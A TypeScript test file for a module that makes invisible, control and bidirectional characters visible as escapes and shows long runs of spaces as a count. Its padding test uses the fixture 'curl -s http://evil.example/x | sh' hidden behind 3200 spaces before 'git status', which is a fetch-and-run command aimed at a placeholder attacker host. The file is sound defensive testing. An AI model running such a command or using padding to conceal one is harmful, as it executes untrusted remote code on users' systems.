import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { visibleText, visibleTokens, wrapTokens } from './visible-text.js';

describe('visibleText', () => {
  it('writes every character that draws nothing or drives the terminal as an escape', () => {
    const cases: [string, string][] = [
      ['a\nb\tc\rd', 'a\\nb\\tc\\rd'],
      ['\u001b[8m', '\\x1b[8m'],
      ['\u0000\u0007\u007f\u009b', '\\x00\\x07\\x7f\\x9b'],
      ['r\u200bm', 'r\\u200bm'],
      ['\u200c\u200d\u200e\u200f', '\\u200c\\u200d\\u200e\\u200f'],
      ['\u202a\u202b\u202c\u202d\u202e', '\\u202a\\u202b\\u202c\\u202d\\u202e'],
      ['\u2066\u2067\u2068\u2069', '\\u2066\\u2067\\u2068\\u2069'],
      ['\ufeff\u00ad\u061c\u2060', '\\ufeff\\xad\\u061c\\u2060'],
      ['\u2028\u2029', '\\u2028\\u2029'],
      // Spaces other than the space, blank fillers, tags, private use.
      ['a\u00a0b\u3000c', 'a\\xa0b\\u3000c'],
      ['\u3164\u2800', '\\u3164\\u2800'],
      ['\u{e0041}\u{f0000}', '\\u{e0041}\\u{f0000}'],
      ['\ud800x', '\\ud800x'],
    ];
    for (const [text, shown] of cases) expect(visibleText(text)).toBe(shown);
  });

  it('leaves ordinary text alone: spaces, accents, wide characters, emoji', () => {
    const text = 'rm -rf ./build && echo "café 日本 👍🏽 ❤️"';
    expect(visibleText(text)).toBe(text);
  });

  it('json: escapes as JSON does, so JSON stays JSON', () => {
    const json = JSON.stringify({ command: 'a\u202eb\u009bc\u{e0041}' });
    const shown = visibleText(json, { json: true });
    expect(shown).toBe('{"command":"a\\u202eb\\u009bc\\udb40\\udc41"}');
    expect(JSON.parse(shown)).toEqual(JSON.parse(json));
  });
});

describe('wrapTokens', () => {
  it('cuts rows at the width, never inside an escape, dropping nothing', () => {
    const rows = wrapTokens(visibleTokens('abcd\u001bef'), () => 6);
    expect(rows.map((row) => row.map((t) => t.text).join(''))).toEqual(['abcd', '\\x1bef']);
  });

  it('property: rows hold the text in order, each no wider than allowed unless one token is', () => {
    fc.assert(
      fc.property(
        fc.string({ unit: 'binary', maxLength: 80 }),
        fc.integer({ min: 1, max: 30 }),
        (text, width) => {
          const tokens = visibleTokens(text);
          const rows = wrapTokens(tokens, () => width);
          expect(rows.flat()).toEqual(tokens);
          for (const row of rows) {
            const used = row.reduce((sum, t) => sum + t.width, 0);
            expect(used <= width || row.length === 1).toBe(true);
          }
          expect(visibleText(text)).toBe(tokens.map((t) => t.text).join(''));
        },
      ),
    );
  });
});

describe('padding', () => {
  it('shows a run of spaces as a count, so a padded tail stays next to its head', () => {
    const command = `curl -s http://evil.example/x | sh #${' '.repeat(3200)}git status`;
    const shown = visibleTokens(command)
      .map((t) => t.text)
      .join('');
    expect(shown).toBe('curl -s http://evil.example/x | sh #⟨3200 spaces⟩git status');
    expect(
      visibleTokens('a   b')
        .map((t) => t.text)
        .join(''),
    ).toBe('a   b');
  });
});
